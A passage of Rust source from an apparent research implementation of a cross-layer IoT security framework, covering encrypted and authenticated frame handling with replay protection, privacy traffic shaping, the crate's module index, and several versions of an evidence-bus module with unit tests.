            network_key: network_key.to_vec(),
        }
    }

    /// Secures a payload at the given level, consuming one frame counter.
    pub fn secure(&mut self, level: SecurityLevel, payload: &[u8]) -> SecuredFrame {
        let counter = self.counter;
        self.counter += 1;
        let cipher = network_cipher(&self.network_key);
        let mut body = payload.to_vec();
        if level == SecurityLevel::EncMic {
            let mut nonce = [0u8; 8];
            nonce[..2].copy_from_slice(&self.address.to_be_bytes());
            nonce[2..6].copy_from_slice(&counter.to_be_bytes());
            Ctr::new(&cipher, &nonce).apply(&mut body);
        }
        let mic = if level == SecurityLevel::None {
            None
        } else {
            let mac = CbcMac::new(&cipher);
            // Invariant: CbcMac::tag only errors through the block cipher,
            // which is keyed above with its fixed-size derived key — frame
            // contents cannot trigger it.
            Some(
                mac.tag(&mic_input(self.address, counter, level, &body))
                    .unwrap_or_else(|_| unreachable!("CBC-MAC tagging is total")),
            )
        };
        SecuredFrame {
            sender: self.address,
            counter,
            level,
            body,
            mic,
        }
    }
}

/// Receiver-side security processor with ACL and replay state.
#[derive(Debug)]
pub struct FrameReceiver {
    network_key: Vec<u8>,
    acl: Vec<u16>,
    /// Highest accepted counter per sender.
    replay_state: BTreeMap<u16, u32>,
    /// Minimum accepted security level.
    pub minimum_level: SecurityLevel,
}

impl FrameReceiver {
    /// Creates a receiver accepting the listed senders.
    pub fn new(network_key: &[u8], acl: &[u16]) -> Self {
        FrameReceiver {
            network_key: network_key.to_vec(),
            acl: acl.to_vec(),
            replay_state: BTreeMap::new(),
            minimum_level: SecurityLevel::Mic,
        }
    }

    /// Verifies access, integrity, and freshness; returns the plaintext.
    ///
    /// # Errors
    ///
    /// See [`FrameError`].
    pub fn receive(&mut self, frame: &SecuredFrame) -> Result<Vec<u8>, FrameError> {
        if !self.acl.contains(&frame.sender) {
            return Err(FrameError::AccessDenied {
                sender: frame.sender,
            });
        }
        let level_rank = |l: SecurityLevel| match l {
            SecurityLevel::None => 0,
            SecurityLevel::Mic => 1,
            SecurityLevel::EncMic => 2,
        };
        if level_rank(frame.level) < level_rank(self.minimum_level) {
            return Err(FrameError::InsufficientSecurity);
        }
        let cipher = network_cipher(&self.network_key);
        if frame.level != SecurityLevel::None {
            let Some(mic) = &frame.mic else {
                return Err(FrameError::Malformed);
            };
            let mac = CbcMac::new(&cipher);
            // Invariant: see `frame_sender` tagging — verification recomputes
            // the tag under the same fixed-key cipher, so attacker-controlled
            // frames can fail the comparison but never the computation.
            let ok = mac
                .verify(
                    &mic_input(frame.sender, frame.counter, frame.level, &frame.body),
                    mic,
                )
                .unwrap_or_else(|_| unreachable!("CBC-MAC verification is total"));
            if !ok {
                return Err(FrameError::BadMic);
            }
        }
        if let Some(&highest) = self.replay_state.get(&frame.sender) {
            if frame.counter <= highest {
                return Err(FrameError::Replay {
                    counter: frame.counter,
                });
            }
        }
        self.replay_state.insert(frame.sender, frame.counter);
        let mut body = frame.body.clone();
        if frame.level == SecurityLevel::EncMic {
            let mut nonce = [0u8; 8];
            nonce[..2].copy_from_slice(&frame.sender.to_be_bytes());
            nonce[2..6].copy_from_slice(&frame.counter.to_be_bytes());
            Ctr::new(&cipher, &nonce).apply(&mut body);
        }
        Ok(body)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const NET_KEY: &[u8] = b"zigbee network key";

    #[test]
    fn enc_mic_roundtrip() {
        let mut sender = FrameSender::new(0x0001, NET_KEY);
        let mut receiver = FrameReceiver::new(NET_KEY, &[0x0001]);
        let frame = sender.secure(SecurityLevel::EncMic, b"bulb: on");
        assert_ne!(frame.body, b"bulb: on");
        assert_eq!(receiver.receive(&frame).unwrap(), b"bulb: on");
    }

    #[test]
    fn acl_blocks_unknown_senders() {
        let mut sender = FrameSender::new(0x0666, NET_KEY);
        let mut receiver = FrameReceiver::new(NET_KEY, &[0x0001]);
        let frame = sender.secure(SecurityLevel::EncMic, b"evil");
        assert_eq!(
            receiver.receive(&frame),
            Err(FrameError::AccessDenied { sender: 0x0666 })
        );
    }

    #[test]
    fn replayed_frames_are_rejected() {
        let mut sender = FrameSender::new(1, NET_KEY);
        let mut receiver = FrameReceiver::new(NET_KEY, &[1]);
        let frame = sender.secure(SecurityLevel::Mic, b"toggle");
        assert!(receiver.receive(&frame).is_ok());
        assert_eq!(
            receiver.receive(&frame),
            Err(FrameError::Replay { counter: 0 })
        );
        // Fresh frames keep flowing.
        let next = sender.secure(SecurityLevel::Mic, b"toggle");
        assert!(receiver.receive(&next).is_ok());
    }

    #[test]
    fn tampered_body_fails_mic() {
        let mut sender = FrameSender::new(1, NET_KEY);
        let mut receiver = FrameReceiver::new(NET_KEY, &[1]);
        let mut frame = sender.secure(SecurityLevel::EncMic, b"set heat 70");
        frame.body[0] ^= 0xFF;
        assert_eq!(receiver.receive(&frame), Err(FrameError::BadMic));
    }

    #[test]
    fn minimum_level_rejects_plaintext_frames() {
        let mut sender = FrameSender::new(1, NET_KEY);
        let mut receiver = FrameReceiver::new(NET_KEY, &[1]);
        let frame = sender.secure(SecurityLevel::None, b"plaintext");
        assert_eq!(
            receiver.receive(&frame),
            Err(FrameError::InsufficientSecurity)
        );
        receiver.minimum_level = SecurityLevel::None;
        assert!(receiver.receive(&frame).is_ok());
    }

    #[test]
    fn wrong_network_key_fails() {
        let mut sender = FrameSender::new(1, b"other network");
        let mut receiver = FrameReceiver::new(NET_KEY, &[1]);
        let frame = sender.secure(SecurityLevel::EncMic, b"payload");
        assert_eq!(receiver.receive(&frame), Err(FrameError::BadMic));
    }

    #[test]
    fn per_sender_replay_state_is_independent() {
        let mut s1 = FrameSender::new(1, NET_KEY);
        let mut s2 = FrameSender::new(2, NET_KEY);
        let mut receiver = FrameReceiver::new(NET_KEY, &[1, 2]);
        let f1 = s1.secure(SecurityLevel::Mic, b"a");
        let f2 = s2.secure(SecurityLevel::Mic, b"b");
        assert!(receiver.receive(&f1).is_ok());
        // Same counter value (0) from a different sender is fine.
        assert!(receiver.receive(&f2).is_ok());
    }
}
