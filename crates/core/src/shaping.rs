//! Traffic shaping (§IV-B1): "it should change the packet transmission
//! rates of different flows by inserting random delays. Secondly, for the
//! incoming traffic, redundant packets could be inserted without changing
//! the states of the devices" — balancing "the adversary confidence and
//! the bandwidth overhead".
//!
//! [`TrafficShaper`] transforms each outgoing packet into a padded size
//! plus a deterministic pseudo-random delay, and decides when to inject
//! cover packets. Intensity sweeps drive the E-M3 crossover plot.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use xlf_simnet::Duration;

/// Shaping intensity.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum ShapingMode {
    /// Pass-through (the undefended baseline).
    Off,
    /// Pad sizes to the next multiple of `bucket` bytes.
    PadOnly {
        /// Padding bucket in bytes.
        bucket: usize,
    },
    /// Pad and insert uniform random delays up to `max_delay`.
    PadAndDelay {
        /// Padding bucket in bytes.
        bucket: usize,
        /// Maximum inserted delay.
        max_delay: Duration,
    },
    /// Pad, delay, and emit cover traffic to hold a constant rate of one
    /// packet per `cover_interval` per flow.
    ConstantRate {
        /// Padding bucket in bytes.
        bucket: usize,
        /// Maximum inserted delay.
        max_delay: Duration,
        /// Target inter-packet interval for cover traffic.
        cover_interval: Duration,
    },
}

/// Decision for one outgoing packet.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShapingDecision {
    /// The wire size to present (≥ original).
    pub padded_size: usize,
    /// Sender-side delay to insert.
    pub delay: Duration,
}

/// Accumulated shaping cost (the overhead axis of the E-M3 plot).
#[derive(Debug, Clone, Copy, Default, PartialEq)]
pub struct ShapingCost {
    /// Padding bytes added.
    pub padding_bytes: u64,
    /// Cover packets injected.
    pub cover_packets: u64,
    /// Cover bytes injected.
    pub cover_bytes: u64,
    /// Total delay inserted.
    pub total_delay: Duration,
    /// Real packets shaped.
    pub packets: u64,
    /// Real bytes before padding.
    pub real_bytes: u64,
}

impl ShapingCost {
    /// Bandwidth overhead ratio: (padding + cover) / real bytes.
    pub fn overhead_ratio(&self) -> f64 {
        if self.real_bytes == 0 {
            return 0.0;
        }
        (self.padding_bytes + self.cover_bytes) as f64 / self.real_bytes as f64
    }

    /// Mean added latency per real packet.
    pub fn mean_delay(&self) -> Duration {
        match self.total_delay.as_micros().checked_div(self.packets) {
            Some(mean) => Duration::from_micros(mean),
            None => Duration::ZERO,
        }
    }
}

/// The shaper.
#[derive(Debug)]
pub struct TrafficShaper {
    /// Active mode.
    pub mode: ShapingMode,
    rng: StdRng,
    /// Cost accounting.
    pub cost: ShapingCost,
}

impl TrafficShaper {
    /// Creates a shaper with a deterministic delay stream.
    pub fn new(mode: ShapingMode, seed: u64) -> Self {
        TrafficShaper {
            mode,
            rng: StdRng::seed_from_u64(seed),
            cost: ShapingCost::default(),
        }
    }

    /// Shapes one outgoing packet of `wire_size` bytes.
    pub fn shape(&mut self, wire_size: usize) -> ShapingDecision {
        self.cost.packets += 1;
        self.cost.real_bytes += wire_size as u64;
        let (padded_size, delay) = match self.mode {
            ShapingMode::Off => (wire_size, Duration::ZERO),
            ShapingMode::PadOnly { bucket } => (pad_to_bucket(wire_size, bucket), Duration::ZERO),
            ShapingMode::PadAndDelay { bucket, max_delay }
            | ShapingMode::ConstantRate {
                bucket, max_delay, ..
            } => {
                let delay_us = self.rng.gen_range(0..=max_delay.as_micros());
                (
                    pad_to_bucket(wire_size, bucket),
                    Duration::from_micros(delay_us),
                )
            }
        };
        self.cost.padding_bytes += (padded_size - wire_size) as u64;
        self.cost.total_delay += delay;
        ShapingDecision { padded_size, delay }
    }

    /// Number of cover packets (and their size) to emit for a flow that
    /// has been silent for `silence`; zero unless in constant-rate mode.
    pub fn cover_packets_for(&mut self, silence: Duration) -> Vec<usize> {
        let ShapingMode::ConstantRate {
            bucket,
            cover_interval,
            ..
        } = self.mode
        else {
            return Vec::new();
        };
        if cover_interval.as_micros() == 0 {
            return Vec::new();
        }
        let due = (silence.as_micros() / cover_interval.as_micros()) as usize;
        let size = bucket.max(1);
        self.cost.cover_packets += due as u64;
        self.cost.cover_bytes += (due * size) as u64;
        vec![size; due]
    }
}

fn pad_to_bucket(size: usize, bucket: usize) -> usize {
    if bucket == 0 {
        return size;
    }
    size.div_ceil(bucket) * bucket
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn off_mode_is_transparent() {
        let mut shaper = TrafficShaper::new(ShapingMode::Off, 1);
        let d = shaper.shape(137);
        assert_eq!(d.padded_size, 137);
        assert_eq!(d.delay, Duration::ZERO);
        assert_eq!(shaper.cost.overhead_ratio(), 0.0);
    }

    #[test]
    fn padding_rounds_up_to_buckets() {
        let mut shaper = TrafficShaper::new(ShapingMode::PadOnly { bucket: 128 }, 1);
        assert_eq!(shaper.shape(1).padded_size, 128);
        assert_eq!(shaper.shape(128).padded_size, 128);
        assert_eq!(shaper.shape(129).padded_size, 256);
        assert!(shaper.cost.padding_bytes == 127 + 127);
    }

    #[test]
    fn delays_are_bounded_and_deterministic() {
        let max = Duration::from_millis(50);
        let mut a = TrafficShaper::new(
            ShapingMode::PadAndDelay {
                bucket: 64,
                max_delay: max,
            },
            42,
        );
        let mut b = TrafficShaper::new(
            ShapingMode::PadAndDelay {
                bucket: 64,
                max_delay: max,
            },
            42,
        );
        for _ in 0..100 {
            let da = a.shape(100);
            let db = b.shape(100);
            assert_eq!(da, db);
            assert!(da.delay <= max);
        }
    }

    #[test]
    fn sizes_collapse_to_buckets_hiding_state() {
        // Idle (88 B) and streaming (940 B) packets under 1024-byte
        // padding become identical on the wire.
        let mut shaper = TrafficShaper::new(ShapingMode::PadOnly { bucket: 1024 }, 1);
        assert_eq!(shaper.shape(88).padded_size, shaper.shape(940).padded_size);
    }

    #[test]
    fn constant_rate_emits_cover_for_silence() {
        let mut shaper = TrafficShaper::new(
            ShapingMode::ConstantRate {
                bucket: 512,
                max_delay: Duration::from_millis(10),
                cover_interval: Duration::from_secs(1),
            },
            1,
        );
        let cover = shaper.cover_packets_for(Duration::from_secs(5));
        assert_eq!(cover.len(), 5);
        assert!(cover.iter().all(|&s| s == 512));
        assert_eq!(shaper.cost.cover_bytes, 2560);
    }

    #[test]
    fn overhead_accounting() {
        let mut shaper = TrafficShaper::new(ShapingMode::PadOnly { bucket: 200 }, 1);
        shaper.shape(100); // +100 padding
        shaper.shape(150); // +50 padding
        let ratio = shaper.cost.overhead_ratio();
        assert!((ratio - 150.0 / 250.0).abs() < 1e-9);
    }
}
