//! # XLF: the cross-layer IoT security framework
//!
//! The paper's contribution (§IV): security functions in the device,
//! network, and service layers that "do not work individually, but
//! interact with each other whenever possible through the XLF Core in the
//! center", which "aggregates the raw and the detection results … from
//! each layer, and conducts its own comprehensive evaluations".
//!
//! ## Layout
//!
//! **The Core** (§IV-D)
//! * [`evidence`] — the cross-layer observation records every mechanism
//!   emits, and the store the Core aggregates them in.
//! * [`bus`] — the channel fabric connecting layer mechanisms to the Core.
//! * [`correlation`] — rule- and MKL-based fusion of per-layer evidence
//!   into per-device verdicts.
//! * [`alerts`] — the alert pipeline.
//! * [`policy`] — automated responses (quarantine, token revocation).
//!
//! **Device layer** (§IV-A)
//! * [`auth`] — the authentication delegation proxy (SSO caching, LAN/WAN
//!   split, correlation-driven token lifetimes) and the cloud-only
//!   baseline it is evaluated against.
//! * [`negotiation`] — lightweight-cipher negotiation from Table I
//!   resource envelopes.
//! * [`nac`] — constrained access: destination allowlists + hardened DNS.
//! * [`updatevet`] — proactive OTA vetting (signature + payload scan).
//!
//! **Network layer** (§IV-B)
//! * [`shaping`] — privacy traffic shaping (padding + random delays).
//! * [`dpi`] — encrypted deep-packet inspection over searchable
//!   encryption (BlindBox-style), plus the plaintext baseline.
//! * [`netmonitor`] — malicious-activity identification (rate anomalies,
//!   behavioural DFAs).
//!
//! **Service layer** (§IV-C)
//! * [`appverify`] — application verification: commands must be explained
//!   by recent, legitimate triggers.
//! * [`dataanalytics`] — security analytics over device telemetry
//!   (seasonal baselines, context correlation).
//!
//! **Assembly**
//! * [`framework`] — [`framework::XlfCore`], the
//!   [`framework::XlfGateway`] smart-gateway node, and the
//!   [`framework::XlfHome`] builder that wires a full home with
//!   per-mechanism on/off switches (for ablations).

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod alerts;
pub mod appverify;
pub mod auth;
pub mod bus;
pub mod correlation;
pub mod dataanalytics;
pub mod dpi;
pub mod evidence;
pub mod framework;
pub mod nac;
pub mod negotiation;
pub mod netmonitor;
pub mod policy;
pub mod shaping;
pub mod updatevet;

pub use alerts::{Alert, AlertSink, Severity};
pub use bus::EvidenceBus;
pub use correlation::{CorrelationEngine, Verdict};
pub use evidence::{Evidence, EvidenceKind, EvidenceStore, Layer};
pub use framework::{HomeReport, HomeRunner, XlfConfig, XlfCore, XlfGateway, XlfHome};
