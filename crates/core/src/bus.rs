//! The evidence bus: the fabric through which layer mechanisms hand their
//! raw observations and detection results to the XLF Core (§IV: "these
//! layers do not work individually, but interact with each other whenever
//! possible through the XLF Core in the center").
//!
//! Built on a crossbeam MPSC channel: every mechanism holds a cheap
//! cloneable [`EvidenceBus`] sender; the Core drains the receiver when it
//! evaluates. The bus comes in two flavours:
//!
//! - [`EvidenceBus::new`] — unbounded: every observation queues until the
//!   Core drains it (the single-home deployments, where one Core serves
//!   one home and memory is not contended).
//! - [`EvidenceBus::bounded`] — capacity-limited with a **shed-oldest**
//!   policy: when the queue is full the oldest queued observation is
//!   evicted to make room (newest intelligence wins — the Core would
//!   rather see the freshest picture of an overload than a stale prefix
//!   of it). Fleet workers multiplexing many homes run on bounded buses
//!   so one chatty home cannot OOM its shard.
//!
//! Either way, no loss is silent: observations that had nowhere to go
//! (Core drain end gone) and observations shed under overload are both
//! charged to [`EvidenceBus::dropped`], with the overload subset
//! separately visible through [`EvidenceBus::shed`] so disconnect-losses
//! and overload-sheds stay distinguishable.

use crate::evidence::{Evidence, EvidenceStore};
use crossbeam::channel::{bounded, unbounded, Receiver, Sender};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

/// A cloneable handle mechanisms use to report evidence.
#[derive(Debug, Clone)]
pub struct EvidenceBus {
    tx: Sender<Evidence>,
    /// Observations lost for any reason — drain end gone *or* shed under
    /// overload. Shared across clones so the count is bus-wide, not
    /// per-handle.
    dropped: Arc<AtomicU64>,
    /// The overload-shed subset of `dropped` (oldest observations
    /// evicted by [`EvidenceBus::report`] on a full bounded bus).
    shed: Arc<AtomicU64>,
}

impl EvidenceBus {
    /// Creates an unbounded bus, returning the shared sender handle and
    /// the Core's drain end.
    pub fn new() -> (EvidenceBus, EvidenceDrain) {
        let (tx, rx) = unbounded();
        (
            EvidenceBus {
                tx,
                dropped: Arc::new(AtomicU64::new(0)),
                shed: Arc::new(AtomicU64::new(0)),
            },
            EvidenceDrain { rx },
        )
    }

    /// Creates a bounded bus holding at most `cap` queued observations.
    /// When a report arrives on a full queue the **oldest** queued
    /// observation is shed to make room (see [`EvidenceBus::shed`]).
    /// `cap` must be at least 1.
    pub fn bounded(cap: usize) -> (EvidenceBus, EvidenceDrain) {
        let (tx, rx) = bounded(cap);
        (
            EvidenceBus {
                tx,
                dropped: Arc::new(AtomicU64::new(0)),
                shed: Arc::new(AtomicU64::new(0)),
            },
            EvidenceDrain { rx },
        )
    }

    /// Reports one observation (never blocks). On a full bounded bus the
    /// oldest queued observation is evicted in its favour and the
    /// eviction is charged to both [`EvidenceBus::dropped`] and
    /// [`EvidenceBus::shed`]. A send failure means the Core is gone and
    /// the observation itself is lost; that loss is counted in
    /// [`EvidenceBus::dropped`] only.
    pub fn report(&self, evidence: Evidence) {
        match self.tx.force_send(evidence) {
            Ok(None) => {}
            Ok(Some(_evicted_oldest)) => {
                self.dropped.fetch_add(1, Ordering::Relaxed);
                self.shed.fetch_add(1, Ordering::Relaxed);
            }
            Err(_) => {
                self.dropped.fetch_add(1, Ordering::Relaxed);
            }
        }
    }

    /// How many observations were lost, for any reason (drain end gone
    /// when they were reported, or shed under overload), aggregated
    /// across all clones of this bus. Always `>=` [`EvidenceBus::shed`];
    /// the difference is the disconnect-loss count.
    pub fn dropped(&self) -> u64 {
        self.dropped.load(Ordering::Relaxed)
    }

    /// How many queued observations were shed (evicted oldest-first) to
    /// make room for newer ones on a full bounded bus. Always 0 for an
    /// unbounded bus.
    pub fn shed(&self) -> u64 {
        self.shed.load(Ordering::Relaxed)
    }

    /// The queue capacity (`None` for an unbounded bus).
    pub fn capacity(&self) -> Option<usize> {
        self.tx.capacity()
    }
}

/// The Core's receiving end.
#[derive(Debug)]
pub struct EvidenceDrain {
    rx: Receiver<Evidence>,
}

impl EvidenceDrain {
    /// Moves every pending observation into the store; returns how many
    /// arrived.
    pub fn drain_into(&self, store: &mut EvidenceStore) -> usize {
        let mut n = 0;
        while let Ok(evidence) = self.rx.try_recv() {
            store.push(evidence);
            n += 1;
        }
        n
    }

    /// Moves at most `max` pending observations into the store; returns
    /// how many moved. Anything beyond `max` stays queued for the next
    /// drain — a fleet worker multiplexing many homes uses this so one
    /// chatty home cannot stall its whole shard.
    pub fn drain_up_to(&self, store: &mut EvidenceStore, max: usize) -> usize {
        let mut n = 0;
        while n < max {
            match self.rx.try_recv() {
                Ok(evidence) => {
                    store.push(evidence);
                    n += 1;
                }
                Err(_) => break,
            }
        }
        n
    }

    /// Observations queued but not yet drained.
    pub fn pending(&self) -> usize {
        self.rx.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evidence::{EvidenceKind, Layer};
    use xlf_simnet::SimTime;

    fn ev(device: &str) -> Evidence {
        Evidence::new(
            SimTime::ZERO,
            Layer::Network,
            device,
            EvidenceKind::DpiMatch,
            0.9,
            "test",
        )
    }

    #[test]
    fn reports_from_cloned_handles_all_arrive() {
        let (bus, drain) = EvidenceBus::new();
        let bus2 = bus.clone();
        bus.report(ev("cam"));
        bus2.report(ev("lamp"));
        let mut store = EvidenceStore::new();
        assert_eq!(drain.drain_into(&mut store), 2);
        assert_eq!(store.len(), 2);
        assert_eq!(bus.dropped(), 0);
    }

    #[test]
    fn drain_is_idempotent_when_empty() {
        let (_bus, drain) = EvidenceBus::new();
        let mut store = EvidenceStore::new();
        assert_eq!(drain.drain_into(&mut store), 0);
        assert_eq!(drain.drain_into(&mut store), 0);
    }

    #[test]
    fn report_after_drain_still_arrives_next_drain() {
        let (bus, drain) = EvidenceBus::new();
        let mut store = EvidenceStore::new();
        drain.drain_into(&mut store);
        bus.report(ev("cam"));
        assert_eq!(drain.drain_into(&mut store), 1);
    }

    #[test]
    fn reports_after_the_core_is_gone_are_counted_not_silent() {
        let (bus, drain) = EvidenceBus::new();
        let bus2 = bus.clone();
        bus.report(ev("cam"));
        drop(drain); // the Core goes away with one observation pending
        bus.report(ev("cam"));
        bus2.report(ev("lamp"));
        // Both clones see the bus-wide count; nothing was shed.
        assert_eq!(bus.dropped(), 2);
        assert_eq!(bus2.dropped(), 2);
        assert_eq!(bus.shed(), 0);
    }

    #[test]
    fn drain_up_to_respects_the_limit_and_keeps_leftovers() {
        let (bus, drain) = EvidenceBus::new();
        for i in 0..5 {
            bus.report(ev(&format!("dev{i}")));
        }
        let mut store = EvidenceStore::new();
        assert_eq!(drain.drain_up_to(&mut store, 3), 3);
        assert_eq!(store.len(), 3);
        assert_eq!(drain.pending(), 2);
        // FIFO order is preserved across the split drains.
        assert_eq!(store.all()[0].device, "dev0");
        assert_eq!(drain.drain_up_to(&mut store, 10), 2);
        assert_eq!(store.all()[3].device, "dev3");
        assert_eq!(drain.drain_up_to(&mut store, 10), 0);
        assert_eq!(store.len(), 5);
    }

    #[test]
    fn drain_up_to_zero_moves_nothing() {
        let (bus, drain) = EvidenceBus::new();
        bus.report(ev("cam"));
        let mut store = EvidenceStore::new();
        assert_eq!(drain.drain_up_to(&mut store, 0), 0);
        assert_eq!(drain.pending(), 1);
    }

    #[test]
    fn unbounded_bus_has_no_capacity_and_never_sheds() {
        let (bus, drain) = EvidenceBus::new();
        assert_eq!(bus.capacity(), None);
        for i in 0..1000 {
            bus.report(ev(&format!("dev{i}")));
        }
        assert_eq!(bus.shed(), 0);
        assert_eq!(bus.dropped(), 0);
        assert_eq!(drain.pending(), 1000);
    }

    #[test]
    fn bounded_bus_sheds_oldest_and_survivors_keep_fifo_order() {
        let (bus, drain) = EvidenceBus::bounded(3);
        assert_eq!(bus.capacity(), Some(3));
        for i in 0..5 {
            bus.report(ev(&format!("dev{i}")));
        }
        // dev0 and dev1 (the two oldest) were shed; dev2..dev4 survive
        // in FIFO order.
        assert_eq!(bus.shed(), 2);
        assert_eq!(bus.dropped(), 2);
        let mut store = EvidenceStore::new();
        assert_eq!(drain.drain_into(&mut store), 3);
        let names: Vec<&str> = store.all().iter().map(|e| e.device.as_str()).collect();
        assert_eq!(names, ["dev2", "dev3", "dev4"]);
    }

    #[test]
    fn draining_frees_capacity_so_later_reports_do_not_shed() {
        let (bus, drain) = EvidenceBus::bounded(2);
        bus.report(ev("a"));
        bus.report(ev("b"));
        let mut store = EvidenceStore::new();
        assert_eq!(drain.drain_into(&mut store), 2);
        bus.report(ev("c"));
        bus.report(ev("d"));
        assert_eq!(bus.shed(), 0);
        assert_eq!(drain.drain_into(&mut store), 2);
        assert_eq!(store.len(), 4);
    }

    #[test]
    fn shed_and_dropped_accounting_is_shared_across_cloned_handles() {
        let (bus, drain) = EvidenceBus::bounded(1);
        let bus2 = bus.clone();
        bus.report(ev("a"));
        bus2.report(ev("b")); // sheds "a"
        bus.report(ev("c")); // sheds "b"
        assert_eq!(bus.shed(), 2);
        assert_eq!(bus2.shed(), 2);
        assert_eq!(bus.dropped(), 2);
        // Disconnect losses pile onto dropped() but not shed().
        drop(drain);
        bus2.report(ev("d"));
        assert_eq!(bus.dropped(), 3);
        assert_eq!(bus.shed(), 2);
        assert_eq!(bus2.shed(), 2);
    }

    #[test]
    fn bounded_bus_at_capacity_one_always_holds_the_newest() {
        let (bus, drain) = EvidenceBus::bounded(1);
        for i in 0..10 {
            bus.report(ev(&format!("dev{i}")));
        }
        assert_eq!(bus.shed(), 9);
        let mut store = EvidenceStore::new();
        assert_eq!(drain.drain_into(&mut store), 1);
        assert_eq!(store.all()[0].device, "dev9");
    }
}
