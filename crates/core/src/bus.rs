//! The evidence bus: the fabric through which layer mechanisms hand their
//! raw observations and detection results to the XLF Core (§IV: "these
//! layers do not work individually, but interact with each other whenever
//! possible through the XLF Core in the center").
//!
//! Built on a crossbeam MPSC channel: every mechanism holds a cheap
//! cloneable [`EvidenceBus`] sender; the Core drains the receiver when it
//! evaluates. Evidence reported after the Core's drain end is gone cannot
//! be delivered; the bus counts those losses instead of discarding them
//! silently (see [`EvidenceBus::dropped`]).

use crate::evidence::{Evidence, EvidenceStore};
use crossbeam::channel::{unbounded, Receiver, Sender};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

/// A cloneable handle mechanisms use to report evidence.
#[derive(Debug, Clone)]
pub struct EvidenceBus {
    tx: Sender<Evidence>,
    /// Observations that had nowhere to go (Core drain end gone). Shared
    /// across clones so the count is bus-wide, not per-handle.
    dropped: Arc<AtomicU64>,
}

impl EvidenceBus {
    /// Creates the bus, returning the shared sender handle and the Core's
    /// drain end.
    pub fn new() -> (EvidenceBus, EvidenceDrain) {
        let (tx, rx) = unbounded();
        (
            EvidenceBus {
                tx,
                dropped: Arc::new(AtomicU64::new(0)),
            },
            EvidenceDrain { rx },
        )
    }

    /// Reports one observation (never blocks; the channel is unbounded).
    /// A send failure means the Core is gone and the observation is lost;
    /// the loss is counted rather than silently discarded.
    pub fn report(&self, evidence: Evidence) {
        if self.tx.send(evidence).is_err() {
            self.dropped.fetch_add(1, Ordering::Relaxed);
        }
    }

    /// How many observations were lost because the Core's drain end was
    /// gone when they were reported (aggregated across all clones of this
    /// bus).
    pub fn dropped(&self) -> u64 {
        self.dropped.load(Ordering::Relaxed)
    }
}

/// The Core's receiving end.
#[derive(Debug)]
pub struct EvidenceDrain {
    rx: Receiver<Evidence>,
}

impl EvidenceDrain {
    /// Moves every pending observation into the store; returns how many
    /// arrived.
    pub fn drain_into(&self, store: &mut EvidenceStore) -> usize {
        let mut n = 0;
        while let Ok(evidence) = self.rx.try_recv() {
            store.push(evidence);
            n += 1;
        }
        n
    }

    /// Moves at most `max` pending observations into the store; returns
    /// how many moved. Anything beyond `max` stays queued for the next
    /// drain — a fleet worker multiplexing many homes uses this so one
    /// chatty home cannot stall its whole shard.
    pub fn drain_up_to(&self, store: &mut EvidenceStore, max: usize) -> usize {
        let mut n = 0;
        while n < max {
            match self.rx.try_recv() {
                Ok(evidence) => {
                    store.push(evidence);
                    n += 1;
                }
                Err(_) => break,
            }
        }
        n
    }

    /// Observations queued but not yet drained.
    pub fn pending(&self) -> usize {
        self.rx.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evidence::{EvidenceKind, Layer};
    use xlf_simnet::SimTime;

    fn ev(device: &str) -> Evidence {
        Evidence::new(
            SimTime::ZERO,
            Layer::Network,
            device,
            EvidenceKind::DpiMatch,
            0.9,
            "test",
        )
    }

    #[test]
    fn reports_from_cloned_handles_all_arrive() {
        let (bus, drain) = EvidenceBus::new();
        let bus2 = bus.clone();
        bus.report(ev("cam"));
        bus2.report(ev("lamp"));
        let mut store = EvidenceStore::new();
        assert_eq!(drain.drain_into(&mut store), 2);
        assert_eq!(store.len(), 2);
        assert_eq!(bus.dropped(), 0);
    }

    #[test]
    fn drain_is_idempotent_when_empty() {
        let (_bus, drain) = EvidenceBus::new();
        let mut store = EvidenceStore::new();
        assert_eq!(drain.drain_into(&mut store), 0);
        assert_eq!(drain.drain_into(&mut store), 0);
    }

    #[test]
    fn report_after_drain_still_arrives_next_drain() {
        let (bus, drain) = EvidenceBus::new();
        let mut store = EvidenceStore::new();
        drain.drain_into(&mut store);
        bus.report(ev("cam"));
        assert_eq!(drain.drain_into(&mut store), 1);
    }

    #[test]
    fn reports_after_the_core_is_gone_are_counted_not_silent() {
        let (bus, drain) = EvidenceBus::new();
        let bus2 = bus.clone();
        bus.report(ev("cam"));
        drop(drain); // the Core goes away with one observation pending
        bus.report(ev("cam"));
        bus2.report(ev("lamp"));
        // Both clones see the bus-wide count.
        assert_eq!(bus.dropped(), 2);
        assert_eq!(bus2.dropped(), 2);
    }

    #[test]
    fn drain_up_to_respects_the_limit_and_keeps_leftovers() {
        let (bus, drain) = EvidenceBus::new();
        for i in 0..5 {
            bus.report(ev(&format!("dev{i}")));
        }
        let mut store = EvidenceStore::new();
        assert_eq!(drain.drain_up_to(&mut store, 3), 3);
        assert_eq!(store.len(), 3);
        assert_eq!(drain.pending(), 2);
        // FIFO order is preserved across the split drains.
        assert_eq!(store.all()[0].device, "dev0");
        assert_eq!(drain.drain_up_to(&mut store, 10), 2);
        assert_eq!(store.all()[3].device, "dev3");
        assert_eq!(drain.drain_up_to(&mut store, 10), 0);
        assert_eq!(store.len(), 5);
    }

    #[test]
    fn drain_up_to_zero_moves_nothing() {
        let (bus, drain) = EvidenceBus::new();
        bus.report(ev("cam"));
        let mut store = EvidenceStore::new();
        assert_eq!(drain.drain_up_to(&mut store, 0), 0);
        assert_eq!(drain.pending(), 1);
    }
}
