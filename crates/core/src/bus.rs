//! The evidence bus: the fabric through which layer mechanisms hand their
//! raw observations and detection results to the XLF Core (§IV: "these
//! layers do not work individually, but interact with each other whenever
//! possible through the XLF Core in the center").
//!
//! Built on a crossbeam MPSC channel: every mechanism holds a cheap
//! cloneable [`EvidenceBus`] sender; the Core drains the receiver when it
//! evaluates.

use crate::evidence::{Evidence, EvidenceStore};
use crossbeam::channel::{unbounded, Receiver, Sender};

/// A cloneable handle mechanisms use to report evidence.
#[derive(Debug, Clone)]
pub struct EvidenceBus {
